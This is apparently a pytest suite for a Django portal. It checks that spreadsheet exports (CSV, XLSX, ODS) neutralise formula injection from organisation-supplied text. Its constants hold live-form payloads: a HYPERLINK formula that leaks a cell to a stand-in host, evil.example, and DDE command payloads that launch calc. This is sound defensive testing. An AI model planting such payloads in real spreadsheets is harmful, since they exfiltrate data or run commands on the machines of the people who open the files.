"""Every spreadsheet the portal writes opens inert: text an organisation typed that a spreadsheet
program would run as a formula is kept as text, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal
from xml.etree import ElementTree

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from hub import spreadsheets
from hub.indicators import Period
from reports.documents import render_funder_report
from reports.services import funder_report_request
from tests.factories import (
    CallFactory,
    EventFactory,
    FieldOfActivityFactory,
    MunicipalityFactory,
    OperationFactory,
    OrganisationFactory,
    RegionFactory,
    RegistrationFactory,
    SupportRecordFactory,
)
from tests.reports.conftest import template_of

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
DDE = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TYPED = [HYPERLINK, DDE, MINUS, AT, "\t=1+1", "\r=1+1"]


def evil_organisation(**fields):
    """An organisation whose profile holds formulas in its name, short name and description."""
    return OrganisationFactory(
        name=HYPERLINK, short_name=DDE, description=MINUS, phone="+386 5 000 00 00", **fields
    )


def assert_inert(cells) -> list:
    """No cell a spreadsheet would run; returns the cells for further checks."""
    cells = list(cells)
    for value in cells:
        if isinstance(value, str):
            assert not value.startswith(
                spreadsheets.FORMULA_START
            ) or spreadsheets._NUMBER_LIKE.match(value), value
    return cells


def csv_cells(content: bytes | str) -> list:
    text = content.decode("utf-8-sig") if isinstance(content, bytes) else content.lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text)))
    return assert_inert(cell for row in rows for cell in row)


def xlsx_cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))  # formulas as formulas, not as cached values
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                cells.append(cell.value)
    return assert_inert(cells)


def ods_cells(content: bytes) -> list:
    ns = {
        "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
        "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
    }
    content_xml = zipfile.ZipFile(io.BytesIO(content)).read("content.xml")
    root = ElementTree.fromstring(content_xml)  # noqa: S314 - the portal's own output
    cells = []
    for cell in root.iter(f"{{{ns['table']}}}table-cell"):
        assert f"{{{ns['table']}}}formula" not in cell.attrib, cell.attrib
        cells.append("".join(p.text or "" for p in cell.iter(f"{{{ns['text']}}}p")))
    return assert_inert(cells)


def test_the_shared_writer_keeps_formulas_as_text_and_numbers_as_numbers():
    assert [spreadsheets.cell(text) for text in TYPED] == ["'" + text for text in TYPED]
    assert spreadsheets.cell(-5) == -5
    assert spreadsheets.cell(-1.5) == -1.5
    assert spreadsheets.cell(Decimal("-3")) == Decimal("-3")
    assert spreadsheets.cell(date(2026, 1, 2)) == date(2026, 1, 2)
    assert spreadsheets.cell(None) is None
    assert spreadsheets.cell("-5") == "-5"  # an amount written as text is still read as one
    assert spreadsheets.cell("+386 5 000 00 00") == "+386 5 000 00 00"
    assert spreadsheets.cell("Društvo Soča") == "Društvo Soča"
    assert [spreadsheets.cell_read(spreadsheets.cell(text)) for text in TYPED] == TYPED


def test_the_directory_exports_open_inert(anonymous, client_for, staff):
    organisation = evil_organisation()

    public = csv_cells(b"".join(anonymous.get("/en/organisations/export.csv").streaming_content))
    admin = client_for(staff).post(
        "/admin/organisations/organisation/",
        {"action": "export_csv", "_selected_action": [organisation.pk]},
    )
    from_admin = csv_cells(b"".join(admin.streaming_content))

    for cells in (public, from_admin):
        assert "'" + HYPERLINK in cells and "'" + DDE in cells and "'" + MINUS in cells
        assert "+386 5 000 00 00" in cells


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods"])
def test_the_import_exports_and_templates_open_inert(client_for, staff, fmt):
    evil_organisation(members=12)
    read = {"csv": csv_cells, "xlsx": xlsx_cells, "ods": ods_cells}[fmt]

    exported = client_for(staff).get(f"/admin/imports/importrecord/export/organisations.{fmt}")
    template = client_for(staff).get(f"/admin/imports/importrecord/template/organisations.{fmt}")

    assert exported.status_code == template.status_code == 200
    cells = read(exported.content)
    assert "'" + HYPERLINK in cells and "'" + DDE in cells and "'" + MINUS in cells
    read(template.content)


def test_a_calls_eligible_organisations_csv_opens_inert(client_for, staff):
    region = RegionFactory(slug="goriska", country="SI")
    youth = FieldOfActivityFactory(slug="youth")
    CallFactory(
        slug="youth-call",
        sectors=["civil"],
        legal_forms=["association"],
        regions=[region],
        fields=[youth],
    )
    evil_organisation(
        sector="civil",
        legal_form="association",
        country="SI",
        fields=[youth],
        seat=MunicipalityFactory(region=region),
        email="x@example.org",
    )

    response = client_for(staff).get("/en/calls/youth-call/organisations/?format=csv")

    assert "'" + HYPERLINK in csv_cells(response.content)


def test_an_events_participants_csv_opens_inert(client_for, staff):
    event = EventFactory()
    RegistrationFactory(event=event, name=AT, organisation=evil_organisation())

    response = client_for(staff).get(f"/en/events/{event.slug}/manage/participants.csv")

    cells = csv_cells(response.content)
    assert "'" + AT in cells and "'" + HYPERLINK in cells


def test_the_funder_report_xlsx_opens_inert_with_its_numbers(client_for, coordinator):
    year = timezone.localdate().year - 1
    operation = OperationFactory(
        template=template_of("ngos_supported", "support_hours"),
        start=date(year, 1, 1),
        end=date(year, 12, 31),
    )
    SupportRecordFactory(
        organisation=evil_organisation(sector="civil"), date=date(year, 2, 1), hours=Decimal("3")
    )
    report = funder_report_request(
        operation=operation,
        period=Period.quarter(year, 1),
        kind="final",
        language="en",
        by=coordinator,
    )
    render_funder_report(report)  # what the worker does: gathers and keeps the figures

    response = client_for(coordinator).get(f"/en/reports/{report.pk}/report.xlsx")

    cells = xlsx_cells(response.content)
    assert "'" + HYPERLINK in cells
    rows = list(
        load_workbook(io.BytesIO(response.content))["Indicators"].iter_rows(values_only=True)
    )
    indicators = rows[
        next(n for n, row in enumerate(rows) if row[:2] == ("Code", "Indicator")) + 1 :
    ]
    assert indicators[0][2] == 1  # a number, not text
